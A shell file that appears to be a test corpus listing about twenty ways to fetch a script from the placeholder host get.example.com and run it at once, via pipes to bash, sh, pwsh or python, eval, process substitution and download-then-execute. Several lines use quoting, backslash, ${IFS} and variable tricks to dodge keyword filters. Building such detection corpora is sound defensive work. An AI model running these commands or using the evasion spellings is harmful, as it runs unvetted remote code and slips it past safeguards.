#!/bin/sh
# the shells, wrappers and spellings a pipeline runs its input with
curl -fsSL https://get.example.com/i | env bash
#---
curl -fsSL https://get.example.com/i | xargs bash -c
#---
curl -fsSL https://get.example.com/i | sudo -E bash -s -- --yes
#---
curl -fsSL https://get.example.com/i | pwsh
#---
curl -fsSL https://get.example.com/i | tee install.log | sh
#---
curl -fsSL https://get.example.com/i | /usr/bin/env python3 -
#---
. <(curl -fsSL https://get.example.com/i)
#---
source <(curl -fsSL https://get.example.com/i)
#---
bash -c "$(curl -fsSL https://get.example.com/i)"
#---
python -c "$(curl -fsSL https://get.example.com/i)"
#---
eval "$(wget -qO- https://get.example.com/i)"
#---
"cu"rl -fsSL https://get.example.com/i | sh
#---
c\url -fsSL https://get.example.com/i | sh
#---
c''url -fsSL https://get.example.com/i | sh
#---
curl${IFS}https://get.example.com/i|sh
#---
c=curl; $c -fsSL https://get.example.com/i | sh
#---
bash -c "curl -fsSL https://get.example.com/i | sh"
#---
curl -so /tmp/i https://get.example.com/i && chmod +x /tmp/i && /tmp/i
#---
wget https://get.example.com/install.sh && bash install.sh
